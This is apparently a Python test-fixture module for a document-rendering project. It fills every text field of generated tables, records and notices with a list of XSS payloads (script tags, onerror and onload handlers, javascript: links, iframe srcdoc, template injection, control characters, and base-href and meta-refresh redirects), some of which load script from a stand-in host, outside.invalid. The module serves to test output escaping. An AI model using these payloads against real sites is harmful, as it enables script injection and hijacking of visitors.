"""A tree in which every text is an attack: no door has seen it, the pages have to hold alone."""

import re
from collections.abc import Iterator, Mapping
from datetime import date
from itertools import cycle
from typing import Any

from brandpilot.codelists import Codelist
from brandpilot.course import Course, Event
from brandpilot.evaluate import EVALUATIONS, Computed, evaluate, tabulated
from brandpilot.findings import Finding
from brandpilot.load import Document, load
from brandpilot.records import Dossier, Notice, Record, Register
from brandpilot.tables import Cell, Plan, Table, frame
from support.house import VALID, law

OUTSIDE = "http://outside.invalid"
MARK = "pwned"
"""What an attack that succeeds sets on `window`."""

_RUN = f"window.{MARK}=1"
ATTACKS = (
    f"<script>{_RUN}</script>",
    f"<img src={OUTSIDE}/a.png onerror={_RUN}>",
    f'"><svg onload={_RUN}>',
    f"' autofocus onfocus={_RUN} x='",
    f"</title></head><script src={OUTSIDE}/b.js></script>",
    f"</span></td></table></div></article><iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"[点我](javascript:{_RUN})",
    f"![图]({OUTSIDE}/c.png)",
    f"名{{: onclick={_RUN} style=background:url({OUTSIDE}/d) }}",
    "名{ #__config }",
    f"{{{{ config }}}} {{% raw %}}<b onmouseover={_RUN}>",
    f"*a* `b` <{OUTSIDE}/e> <style>@import '{OUTSIDE}/f.css'</style>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"a\u202e\u2066\u200b\x00\x02wzxhzdk:0\x03\n\n# 标题\n\n<script>{_RUN}</script>",
    f"javascript:{_RUN}",
    f"--> ]]> --- <base href={OUTSIDE}/> <meta http-equiv=refresh content='0;url={OUTSIDE}'>",
)
BODY = "\n\n".join(
    [
        f"段 {attack}\n\n## {attack}\n\n- {attack}\n\n| a |\n|---|\n| {attack} |"
        for attack in ATTACKS
    ]
    + [f"[x]: javascript:{_RUN}", "[x]", f"<{OUTSIDE}>", f"[a][x] ![b][x]\n\n[b]: {OUTSIDE}/g.png"]
)
_FILED = (("fujian-2017-application.yaml",), ())
_SHORT = (
    "hunan-2016-designation.yaml",
    "hunan-2019-demonstration.yaml",
    "hunan-2018-press-figures.yaml",
    "hunan-2018-call.md",
    "hunan-2018-public-notice.md",
)
_KEPT = frozenset(("schema",))


_KNOWN = {
    "clusters": ("fujian/x0", "fujian/x1"),
    "notices": ("miit/2017-1", "miit/2017-2"),
    "records": ("submissions/fujian/x0/2017-a.yaml", "submissions/fujian/x1/2017-a.yaml"),
    "units": ("fujian", "hebei"),
}
"""What others refer to, for either of two rows."""
_PLAIN: dict[str, Cell] = {
    "integer": 1,
    "number": 1.5,
    "year": 2017,
    "boolean": True,
    "date": "2017-08-25",
    "partial_date": "2017",
    "datetime": "2017-08-25T00:00:00Z",
}


def hostile_computed(plan: Plan, codelists: Mapping[str, Codelist]) -> Computed:
    """Tables of two rows each, in which every text that may be one is an attack.

    Without the signs that no file can bear (F015): what reads them back could not either.
    """
    attacks = cycle(re.sub("[\x00\x02\x03]", "", attack) for attack in ATTACKS)
    frames = {
        name: frame(table, [_row(table, turn, attacks, codelists) for turn in range(2)])
        for name, table in plan.tables.items()
        if name not in EVALUATIONS
    }
    evaluations = evaluate(frames, date(2019, 1, 1))
    frames |= tabulated(evaluations, plan, codelists)
    return Computed(plan, {name: frames[name] for name in plan.tables}, evaluations)


def _row(
    table: Table, turn: int, attacks: Iterator[str], codelists: Mapping[str, Codelist]
) -> dict[str, Cell]:
    cells: dict[str, Cell] = {}
    for column in table.columns:
        known = column.refers or (table.name if table.key == (column.name,) else "")
        if known in _KNOWN:
            cells[column.name] = _KNOWN[known][turn]
        elif column.codelist:
            cells[column.name] = next(iter(codelists[column.codelist]))
        elif column.name in table.key:
            cells[column.name] = {"string": f"x{turn}"}.get(column.type, _PLAIN.get(column.type))
        else:
            cells[column.name] = _PLAIN.get(column.type) or next(attacks)
    if "number" in table.key:
        cells["number"] = turn + 1
    return cells


def _poison(value: Any, attacks: Iterator[str]) -> Any:
    if isinstance(value, dict):
        return {
            key: inner if key in _KEPT else _poison(inner, attacks) for key, inner in value.items()
        }
    if isinstance(value, list):
        return [_poison(inner, attacks) for inner in value]
    return next(attacks) if isinstance(value, str) else value


def _read(name: str) -> Document:
    document = load(name, (VALID / name).read_bytes())
    assert isinstance(document, Document)
    return document


def _course(notices: list[Notice]) -> Course:
    """Let every public notice speak of a dossier, though its place in the table is not asked."""
    told = (notice for notice in notices if notice.get("public_notice"))
    events = (Event("2017-01-01", "notice-start", notice) for notice in told)
    return Course(tuple(events), law().rules)


def hostile_register() -> Register:
    """Poison every text of every kind of record and notice, and the findings of a dossier."""
    attacks = cycle(ATTACKS)
    dossiers: list[Dossier] = []
    notices: list[Notice] = []
    for turn in range(2):
        id_ = f"fujian/x{turn}"
        records: list[Record] = []
        for name in sorted(
            file.name for file in VALID.iterdir() if file.suffix in (".yaml", ".md")
        ):
            document = _read(name)
            kind = document.kind
            data = _poison(document.data, attacks)
            if kind == "notice":
                notice = f"miit/{2000 + len(notices)}-{turn}"
                notices.append(Notice(notice, f"docs/notices/{notice}.md", data, BODY))
            else:
                path = f"submissions/{id_}/2017-{kind}-{len(records)}.yaml"
                records.append(Record(path, kind, id_, 2017, 1, None, data))
        values = tuple((key, next(attacks)) for key in ("character", "field", "found", "limit"))
        bad = f"submissions/{id_}/{ATTACKS[turn]}.yaml"
        found = Finding(bad, 1, 1, ("F005", "F011")[turn], "", values)
        told = Finding(bad, 2, 1, found.code, "", (*values, ("folder", ATTACKS[turn])))
        dossiers.append(Dossier(id_, tuple(records), _course(notices), (told,)))
    strange = f"fujian/{ATTACKS[0]}"
    doubt = Finding(f"submissions/{strange}/a", 1, 1, "F002")
    dossiers.append(Dossier(strange, (), Course((), law().rules), (doubt,)))
    return Register(tuple(dossiers), tuple(notices))
